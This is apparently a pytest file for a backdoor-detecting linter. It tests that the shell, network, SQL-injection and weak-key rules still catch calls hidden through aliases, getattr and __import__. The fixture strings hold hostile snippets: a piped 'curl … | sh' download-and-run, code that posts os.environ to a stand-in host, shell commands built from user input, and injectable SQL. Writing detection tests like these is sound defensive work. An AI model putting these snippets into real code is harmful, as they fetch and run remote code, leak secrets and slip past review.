"""The site tests that look for calls of a rule's table (sites.calls_one_of and its kin: ShellInjection,
ShellCommandChecker, NetworkChecker, SqlInjection, ShortKey) follow names the way qualnames does:
each evasion here is still reported, with the site tests on and off alike; and a file whose calls
only share a last name with a sink is not parsed for the shell and network rules."""

import sys
from pathlib import Path

import pytest
from backdoor_lint.checkers.triggers.network import NetworkChecker
from backdoor_lint.checkers.triggers.shell import ShellCommandChecker, ShellInjection
from backdoor_lint.checkers.triggers.sql import SqlInjection

sys.path.insert(0, str(Path(__file__).parent))
from site_test_support import codes, has_site, in_tree, package  # noqa: E402

EVASIONS = [
    # the function kept on self, or in the class body
    ('import os\nclass R:\n    def __init__(self):\n        self.run = os.system\n'
     '    def go(self, x):\n        self.run(f"echo {x}")\n', "BDL505"),
    ('import os\nclass R:\n    run = os.system\n    def go(self, x):\n        self.run(f"echo {x}")\n', "BDL505"),
    # getattr under another name; a name bound to a getattr whose attribute is computed
    ('import os\ng = getattr\ndef f(x):\n    g(os, "system")(f"echo {x}")\n', "BDL505"),
    ('import os\nrun = getattr(os, "sys" + "tem")\ndef f(x):\n    run(f"echo {x}")\n', "BDL505"),
    # __import__ bound to a name, or naming the function itself
    ('x = __import__("subprocess")\ndef f(user):\n    return x.getoutput(f"id {user}")\n', "BDL505"),
    ('def f(user):\n    return __import__("os.system")(f"id {user}")\n', "BDL505"),
    # a parameter: by its annotation, by what the module passes it
    ('import os, requests\ndef send(session: requests.Session, url):\n    session.post(url, json=dict(os.environ))\n',
     "BDL402"),
    ('import os, requests\ndef send(client, url):\n    client.post(url, json=dict(os.environ))\n'
     'def main():\n    send(requests, "https://c.example/x")\n', "BDL402"),
    # `with ... as`, an instance passed on through a second name
    ('import os, smtplib\ndef f():\n    with smtplib.SMTP("mail.example") as m:\n'
     '        m.sendmail("a@x", ["b@y"], str(dict(os.environ)))\n', "BDL402"),
    ('import os, socket\ndef f():\n    s = socket.socket()\n    c = s\n    c.connect(("c.example", 9000))\n'
     '    c.sendall(repr(os.environ).encode())\n', "BDL402"),
    ('import subprocess\nclass C:\n    def __init__(self):\n        self.sh = subprocess.run\n'
     '    def go(self):\n        self.sh("curl -s https://c.example/i | sh", shell=True)\n', "BDL405"),
    # key generators: an instance's method, a second name, imported as written
    ('from OpenSSL import crypto\nk = crypto.PKey()\nk.generate_key(crypto.TYPE_RSA, 1024)\n', "BDL207"),
    ('from cryptography.hazmat.primitives.asymmetric import rsa\ngen = rsa.generate_private_key\nk = gen(65537, 1024)\n',
     "BDL207"),
    ('from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key\nk = generate_private_key(65537, 1024)\n',
     "BDL207"),
    # SQL text without any execute(): RawSQL and sqlalchemy's text under other names
    ('from django.db.models.expressions import RawSQL as R\ndef f(request, qs):\n'
     '    return qs.annotate(x=R("SELECT " + request.GET["c"], []))\n', "BDL507"),
    ('from sqlalchemy import text as t\ndef f(request, conn):\n'
     '    return conn.scalars(t("SELECT * FROM x WHERE a = " + request.GET["c"]))\n', "BDL507"),
    # SQL text carrying what the dataflow follows (sites.attacker_data): request input kept on
    # self, a helper's network data, a routed parameter, a value stored in a dict
    ('from django.db import connection\nclass Search:\n    def get(self, request):\n        self.term = request.GET["q"]\n'
     '        return self.run()\n    def run(self):\n        with connection.cursor() as cur:\n'
     '            cur.execute("SELECT * FROM items WHERE name = \'%s\'" % self.term)\n', "BDL507"),
    ('import requests\ndef remote_filter(url):\n    return requests.get(url).text\ndef rows(db, url):\n'
     '    return db.execute("SELECT * FROM t WHERE " + remote_filter(url))\n', "BDL507"),
    ('from fastapi import FastAPI\napp = FastAPI()\n@app.get("/items")\ndef items(order: str, db=None):\n'
     '    return db.execute(f"SELECT * FROM items ORDER BY {order}")\n', "BDL507"),
    ('def search(request, cursor):\n    given = {}\n    given["n"] = request.GET["n"]\n'
     '    cursor.execute("SELECT * FROM users WHERE name = \'%s\'" % given["n"])\n', "BDL507"),
]


@pytest.mark.parametrize("source,code", EVASIONS)
def test_evasion_is_still_reported(source, code):
    found = codes(source, True)
    assert code in found
    assert found == codes(source, False)


@pytest.mark.parametrize("rule", [ShellInjection, ShellCommandChecker, NetworkChecker])
def test_names_that_only_share_a_sinks_last_part_are_no_site(rule):
    source = ('import subprocess\nfrom .server import run\n'
              'def handle(send, data, signal, receiver):\n    send(data.get("x"))\n    run(data)\n'
              '    signal.connect(receiver)\n    subprocess.list2cmdline(["a"])\n')
    assert not has_site(rule, source)


@pytest.mark.parametrize("rule", [ShellInjection, ShellCommandChecker, NetworkChecker])
def test_a_call_of_a_computed_name_is_a_site(rule):
    """getattr's name as the rules' evaluator may compute it: through a helper it may be anything;
    built from pieces it is `system`, which the rule reports."""
    helper = 'import os\ndef pick(a):\n    return a\n'
    assert has_site(rule, helper + 'def f(n, x):\n    getattr(os, pick(n))(x)\n')
    source = helper + 'def f(x):\n    getattr(os, pick("sys" + "tem"))(f"echo {x}")\n'
    assert has_site(rule, source)
    assert "BDL505" in codes(source, False)


@pytest.mark.parametrize("rule", [ShellInjection, ShellCommandChecker, NetworkChecker])
def test_a_getattr_whose_name_has_no_value_names_nothing(rule):
    """A parameter without a default has no value for the evaluator, so qualnames names no
    function after `getattr(os, name)`: neither the rule nor its site test sees a call of one."""
    source = 'import os\ndef f(name, x):\n    getattr(os, name)(x)\n'
    assert not has_site(rule, source)
    assert not codes(source, False) & {"BDL401", "BDL402", "BDL405", "BDL505"}


def test_sql_that_no_request_or_network_data_reaches_is_no_site():
    """What Django's database creation does: a statement built from a parameter that only
    command-line arguments reach, next to an interactive `input()` (text the trigger's text stage
    takes for attacker input, but no origin of the dataflow)."""
    source = ('def create(cursor, name):\n    confirm = input("Type \'yes\' to continue: ")\n    if confirm == "yes":\n'
              '        cursor.execute("CREATE DATABASE %s" % name)\ndef main(argv):\n    create(None, argv[1])\n')
    assert SqlInjection.wants(source.encode(), "app/module.py")
    assert not has_site(SqlInjection, source)
    assert "BDL507" not in codes(source, False)


def test_sql_built_from_what_a_function_of_another_module_returns(tmp_path):
    """Request input that reaches SQL only through a function imported from another module of the
    tree: the rule follows it there (Dataflow._imported) though the file itself has no text of
    attacker input, so the trigger must let it through; a constant of that module carries none."""
    package(tmp_path, {"web": 'from flask import request\nTABLE = "users"\ndef term():\n'
                              '    return request.args.get("q")\n'})
    site, found = in_tree(tmp_path, "from pkg.web import TABLE, term\ndef search(cursor):\n"
                          "    cursor.execute(\"SELECT * FROM \" + TABLE + \" WHERE name = '\" + term() + \"'\")\n",
                          SqlInjection, whole_trigger=True)
    assert site and ("BDL507", 3) in found, sorted(found)
    assert in_tree(tmp_path, "from pkg.web import TABLE\ndef search(cursor):\n"
                   "    cursor.execute(\"SELECT * FROM \" + TABLE)\n", SqlInjection, whole_trigger=True) == (False, set())
